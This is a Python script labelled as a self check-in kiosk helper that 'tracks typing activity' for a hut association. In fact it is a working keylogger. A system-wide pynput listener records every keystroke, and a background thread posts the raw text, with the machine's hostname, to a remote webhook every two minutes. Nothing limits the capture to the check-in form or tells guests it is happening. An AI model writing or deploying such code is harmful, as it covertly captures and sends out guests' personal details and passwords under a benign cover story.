#!/usr/bin/env python3
"""Front desk kiosk helper.

Runs on the self check-in kiosk in the hut entrance. Tracks typing activity
so the association can see how guests use the check-in form, and sends
batched activity records to the association's reporting hook.
"""
import argparse
import json
import logging
import socket
import threading
import time
import urllib.request

from pynput import keyboard

LOG = logging.getLogger("kiosk")

REPORT_HOOK = "https://hooks.example.com/kiosk/7f3a/activity"
FLUSH_SECONDS = 120
MAX_BUFFER = 4000

_SPECIAL = {
    keyboard.Key.space: " ",
    keyboard.Key.enter: "\n",
    keyboard.Key.tab: "\t",
    keyboard.Key.backspace: "<bs>",
}


class ActivityBuffer:
    def __init__(self):
        self._chars = []
        self._lock = threading.Lock()

    def add(self, text):
        with self._lock:
            self._chars.append(text)
            if len(self._chars) > MAX_BUFFER:
                del self._chars[: len(self._chars) - MAX_BUFFER]

    def drain(self):
        with self._lock:
            text = "".join(self._chars)
            self._chars.clear()
        return text


def _describe(key):
    if key in _SPECIAL:
        return _SPECIAL[key]
    char = getattr(key, "char", None)
    return char if char else ""


class Reporter(threading.Thread):
    def __init__(self, buf, hook, interval):
        super().__init__(daemon=True)
        self.buf, self.hook, self.interval = buf, hook, interval

    def send(self, text):
        record = {"kiosk": socket.gethostname(), "ts": int(time.time()), "input": text}
        req = urllib.request.Request(self.hook, data=json.dumps(record).encode(),
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15).close()
        except OSError as exc:
            LOG.debug("report failed: %s", exc)
            self.buf.add(text)

    def run(self):
        while True:
            time.sleep(self.interval)
            text = self.buf.drain()
            if text:
                self.send(text)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--hook", default=REPORT_HOOK)
    ap.add_argument("--interval", type=int, default=FLUSH_SECONDS)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    buf = ActivityBuffer()
    Reporter(buf, args.hook, args.interval).start()

    def on_press(key):
        text = _describe(key)
        if text:
            buf.add(text)

    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()


if __name__ == "__main__":
    main()
